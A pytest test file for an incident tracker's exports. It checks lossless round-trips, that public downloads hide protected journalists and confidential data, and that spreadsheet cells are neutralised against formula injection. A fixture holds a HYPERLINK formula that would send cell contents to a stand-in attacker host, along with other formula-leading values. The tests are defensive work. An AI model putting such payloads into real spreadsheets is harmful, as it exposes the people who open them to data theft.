"""Exports: the internal edition round-trips without loss; the public edition is the public
API's download (one public path) and leaks nothing; no cell of any CSV/XLSX runs as a formula."""

import io
import json

import pytest
import sqlalchemy as sa

from tests import factories
from tests.transfer.conftest import check, run
from tracker.cases import operations as case_ops
from tracker.cases.models import Incident
from tracker.core.transaction import transaction
from tracker.demo import generator as demo
from tracker.extensions import db
from tracker.transfer import exports, queries

CANARIES = ("CANARY-PROTECTED-NAME", "CANARY-PROTECTED-EN", "CANARY-NOTE", "CANARY-INTERNAL-SOURCE",
            "CANARY-CONFIDENTIAL-CASE", "CANARY-DRAFT-CASE", "CANARY-OUTLET", "15.123456", "44.654321")  # fmt: skip


def _export(fmt: str, edition: str, filters=None, client=None) -> bytes:
    if edition == "public":  # what anyone downloads from /transfer/export
        response = client.get(f"/transfer/export?format={fmt}&edition=public", follow_redirects=True)
        assert response.status_code == 200
        return response.data
    out = io.BytesIO()
    exports.write(queries.export_incidents(filters or {}), fmt, out)
    return out.getvalue()


def _publish(incident):
    for status in ("in_review", "verified", "published"):
        case_ops.transition_incident(incident, status, factories.SYSTEM)
    db.session.commit()
    return incident


@pytest.fixture
def canaries():
    outlet = case_ops.people_ops.create_outlet({"name_ar": "CANARY-OUTLET"}, factories.SYSTEM)
    protected = factories.create_journalist(name_ar="CANARY-PROTECTED-NAME", name_en="CANARY-PROTECTED-EN",
                                            outlet_id=outlet.id)  # fmt: skip
    public = factories.create_incident(
        title_en="Public case", latitude=15.123456, longitude=44.654321, geo_precision="exact",
        public_geo_precision="admin1", confidential_notes="CANARY-NOTE",
        sources=[{"url": "https://example.org/public", "reliability": 4},
                 {"url": "https://example.org/x", "title": "CANARY-INTERNAL-SOURCE", "is_internal": True}],
        victims=[{"journalist_id": protected.id, "outcome": "detained", "is_identity_protected": True},
                 {"journalist": {"name_ar": "صحفية معروفة", "name_en": "Known Reporter"}, "outcome": "injured"}],
    )  # fmt: skip
    _publish(public)
    _publish(factories.create_incident(title_en="CANARY-CONFIDENTIAL-CASE", is_confidential=True))
    factories.create_incident(title_en="CANARY-DRAFT-CASE")
    return public


@pytest.mark.parametrize("fmt", exports.FORMATS)
def test_the_public_edition_contains_no_canary(canaries, fmt, plain_client):
    body = _export(fmt, "public", client=plain_client)
    text = body.decode("utf-8-sig") if fmt != "xlsx" else _xlsx_text(body)
    assert "Public case" in text and "Known Reporter" in text
    for canary in CANARIES:
        assert canary not in text, canary
    assert "حُجب الاسم" in text and "name withheld" in text
    internal = _export(fmt, "internal")
    internal_text = internal.decode("utf-8-sig") if fmt != "xlsx" else _xlsx_text(internal)
    assert all(c in internal_text for c in ("CANARY-PROTECTED-NAME", "CANARY-NOTE", "CANARY-DRAFT-CASE"))


def _xlsx_text(body: bytes) -> str:
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(body), read_only=True).worksheets[0]
    return "\n".join(
        ",".join(str(c) for c in row if c is not None) for row in sheet.iter_rows(values_only=True)
    )


def test_public_geojson_points_are_coarsened(canaries, plain_client):
    collection = json.loads(_export("geojson", "public", client=plain_client))
    (feature,) = collection["features"]
    assert feature["properties"]["geo_precision"] == "admin1" and feature["properties"]["locality"] is None
    lon, lat = feature["geometry"]["coordinates"]
    assert (round(lat, 2), round(lon, 2)) != (15.12, 44.65)
    assert (
        "confidential_notes" not in feature["properties"] and "workflow_status" not in feature["properties"]
    )


def test_filters_of_the_case_list_apply():
    factories.create_incident(country="LY", admin1="طرابلس", locality="طرابلس", latitude=None, longitude=None,
                              geo_precision=None)  # fmt: skip
    factories.create_incident()
    records = json.loads(_export("json", "internal", {"country": ["LY"]}))
    assert [r["country"] for r in records] == ["LY"]


@pytest.mark.parametrize(("fmt", "name"), [("csv", "export.csv"), ("xlsx", "export.xlsx")])
def test_round_trip_on_demo_data_loses_nothing(fmt, name):
    with transaction():
        demo.load(60, seed=3)
    before = {i.public_ref: case_ops.snapshot(i) for i in db.session.scalars(sa.select(Incident))}
    body = _export(fmt, "internal")
    report = check(body, name)
    assert report.ok, report.errors[:5]
    assert len(report.to_update) == 60 and not report.to_create
    _report, result = run(body, name)
    assert (result.created, result.updated, result.unchanged) == (0, 0, 60)
    db.session.expire_all()
    after = {i.public_ref: case_ops.snapshot(i) for i in db.session.scalars(sa.select(Incident))}
    assert after == before


def test_round_trip_into_an_empty_database_loses_nothing():
    """Export, empty the tables, import the file: the new records export the same."""
    with transaction():
        demo.load(40, seed=5)
    before_json = json.loads(_export("json", "internal"))
    body = _reversed_incidents(_export("csv", "internal"))  # references out of order
    for table in ("status_events", "victims", "sources", "perpetrators", "incident_violations", "incidents",
                  "journalists", "outlets", "public_ref_counters"):  # fmt: skip
        db.session.execute(sa.text(f"DELETE FROM {table}"))
    _report, result = run(body, "export.csv")
    assert result.created == 40
    after_json = json.loads(_export("json", "internal"))
    assert _without_ids(after_json) == _without_ids(before_json)  # new records, new ids


def _without_ids(records: list[dict]) -> list[dict]:
    for record in records:
        for victim in record["victims"]:
            del victim["journalist_id"], victim["outlet_id"]
    return records


def _reversed_incidents(body: bytes) -> bytes:
    import csv

    header, *rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    groups: dict[str, list] = {}
    for row in rows:
        groups.setdefault(row[0], []).append(row)
    out = io.StringIO()
    csv.writer(out).writerows([header, *(row for ref in reversed(groups) for row in groups[ref])])
    return out.getvalue().encode()


def test_the_audit_entry_of_an_imported_incident_describes_it():
    from tracker.audit import operations as audit
    from tracker.audit.models import AuditEntry

    run((DATA_HEADER + "R-1,حادثة,F4;I1,2024-01-01,YE,مأرب,صحفي,detained\n").encode())
    incident = db.session.scalar(sa.select(Incident))
    entry = db.session.scalar(sa.select(AuditEntry).where(AuditEntry.entity_type == "incident"))
    assert entry.action == "create" and entry.entity_id == incident.id
    assert entry.changes == audit.creation_diff(case_ops.snapshot(incident))


DATA_HEADER = (
    "incident_ref,title_ar,violation_types,date_start,country,admin1,victim_name_ar,victim_outcome\n"
)


# --- one public path, no formulas (issue 11, finding 2) -------------------------------------------

FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"open")'


@pytest.fixture
def described_protected_victim():
    """A published case with a protected victim whose gender, profession and media type are
    recorded, and a hostile title and outlet."""
    outlet = case_ops.people_ops.create_outlet({"name_ar": "@SUM(1+1)", "media_type": "tv"}, factories.SYSTEM)
    journalist = factories.create_journalist(name_ar="اسم محمي", name_en="Protected Name", gender="female",
                                             profession="photographer", media_type="radio",
                                             outlet_id=outlet.id)  # fmt: skip
    incident = factories.create_incident(
        title_en=FORMULA,
        title_ar="+قتل",
        summary_en="-2+3",
        summary_ar="\tخطر",
        victims=[{"journalist_id": journalist.id, "outcome": "detained", "is_identity_protected": True}],
    )
    return _publish(incident)


@pytest.mark.parametrize("fmt", ["csv", "json", "geojson", "xlsx"])
def test_public_export_is_byte_for_byte_the_public_api_download(
    described_protected_victim, plain_client, fmt
):
    response = plain_client.get(f"/transfer/export?format={fmt}&edition=public&year=2024&country=YE",
                                follow_redirects=True)  # fmt: skip
    assert response.status_code == 200
    transfer = response.data
    response = plain_client.get(f"/api/public/v1/incidents.{fmt}?year_from=2024&year_to=2024&country=YE")
    assert response.status_code == 200
    assert transfer == response.data
    assert "HYPERLINK" in (_xlsx_text(transfer) if fmt == "xlsx" else transfer.decode())


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
def test_public_export_does_not_describe_a_protected_victim(described_protected_victim, plain_client, fmt):
    body = plain_client.get(f"/transfer/export?format={fmt}&edition=public", follow_redirects=True).data
    text = _xlsx_text(body) if fmt == "xlsx" else body.decode("utf-8-sig")
    for detail in ("Protected Name", "اسم محمي", "female", "photographer", "radio", "public_geo_precision"):
        assert detail not in text, detail


def _csv_cells(body: bytes) -> list[str]:
    import csv

    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def _xlsx_cells(body: bytes) -> list:
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


def _no_formula(cells) -> None:
    texts = [c for c in cells if isinstance(c, str) and c]
    assert any(t.startswith("'=HYPERLINK") for t in texts)
    for text in texts:
        assert not text.startswith(("=", "+", "@", "\t", "\r")), text
        assert not text.startswith("-") or _number(text), text


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("edition", ["internal", "public"])
def test_no_csv_cell_runs_as_a_formula(described_protected_victim, plain_client, edition):
    _no_formula(_csv_cells(_export("csv", edition, client=plain_client)))


@pytest.mark.parametrize("edition", ["internal", "public"])
def test_no_xlsx_cell_is_a_formula(described_protected_victim, plain_client, edition):
    cells = _xlsx_cells(_export("xlsx", edition, client=plain_client))
    assert not [c.value for c in cells if c.data_type == "f"]
    _no_formula([c.value for c in cells])


def test_a_neutralised_cell_imports_back_as_it_was(described_protected_victim):
    body = _export("csv", "internal")
    report = check(body, "export.csv")
    assert report.ok, report.errors[:5]
    (record,) = report.records
    assert record.data["title_en"] == FORMULA and record.data["summary_en"] == "-2+3"
